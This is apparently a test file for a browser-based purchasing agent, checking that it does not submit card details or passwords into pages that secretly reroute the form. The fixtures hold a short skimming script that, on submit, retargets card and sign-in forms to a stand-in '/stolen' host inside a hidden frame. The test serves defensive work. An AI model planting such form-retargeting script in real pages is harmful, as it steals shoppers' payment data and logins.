import { beforeAll, describe, expect, it } from "vitest";
import type { BrowserPool } from "../../src/index.ts";
import { goodCard } from "../purchase/support/ada.ts";
import { checkOutFromPages } from "../purchase/support/buy-from-pages.ts";
import { addressFields, type ShopPage } from "../purchase/support/page-shop.ts";
import { sharedPool } from "../support/shared-pool.ts";
import { stolen } from "./support/stranger.ts";

let pool: BrowserPool;
beforeAll(async () => {
  pool = await sharedPool();
});

/** As the form is sent, its page turns it to another host, into a frame that nobody sees. */
const turned = (content: string): ShopPage =>
  `<form method="post" action="/order" target="sink">${content}</form><iframe name="sink" hidden></iframe><script>
  document.forms[0].addEventListener('submit', ({ target }) => { target.action = '//card-fields.localhost:' + location.port + '/stolen' });</script>`;

const card = `<label>Card number <input name="what"></label><label>Expiry <input name="expiry" placeholder="MM/YY"></label>
  <label>CVC <input name="cvc"></label><p>Total $80.00</p><button>Place order</button>`;
const signIn = `<h1>Sign in</h1><p>You need an account to order.</p><label>E-mail <input type="email" name="login"></label>
  <label>Password <input type="password" name="what"></label><button>Sign in</button>`;
const nameless = `<meta name="referrer" content="no-referrer">`;

describe.concurrent("a form that its page turns to a stranger's frame as it is sent", {
  timeout: 60_000,
}, () => {
  it.each([
    ["a card", turned(`<h1>Checkout</h1>${addressFields}${card}`)],
    ["a card, where the page hides who sends it", `${nameless}${turned(`${addressFields}${card}`)}`],
    ["a password", turned(signIn)],
  ])("gives it no secret: %s", async (_what, checkout) => {
    const { outcome, shop } = await checkOutFromPages(
      pool,
      { "/checkout": checkout, "/stolen": "{}" },
      {
        patience: 0.1,
        answers: {
          card: [goodCard],
          credentials: [{ username: "ada@example.com", password: "canary-Wren-77" }],
        },
      },
    );

    expect(stolen(shop)).toEqual([]);
    expect(outcome).toMatchObject({ status: "failed" });
  });
});

it("a bank's frame sends the code that it was given to its own host", async () => {
  const bank = `<h1>Your bank</h1><form method="post" action="/approved"><label>One-time code <input name="otp" autocomplete="one-time-code"></label><button>Confirm</button></form>`;
  const waiting = `<h1>One moment</h1><iframe width="500" height="300"></iframe><script>
    document.querySelector('iframe').src = '//card-fields.localhost:' + location.port + '/bank';
    addEventListener('message', () => { location = '/thanks' })</script>`;
  const pages = {
    "/checkout": `<h1>Checkout</h1><form method="post" action="/order">${addressFields}${card}</form>`,
    "/order": waiting,
    "/bank": bank,
    "/approved": "<p>Approved</p><script>parent.postMessage('done', '*')</script>",
    "/thanks":
      "<h1>Thank you for your order</h1><p>Order number: PS-1001</p><p>Your order has been placed.</p>",
  };
  const { outcome, shop } = await checkOutFromPages(pool, pages, {
    answers: { card: [goodCard], otp: [{ code: "845219" }] },
  });

  expect(outcome).toMatchObject({ status: "succeeded" });
  expect(shop.visits.find(({ path }) => path === "/approved")?.sent).toMatchObject({ otp: "845219" });
});
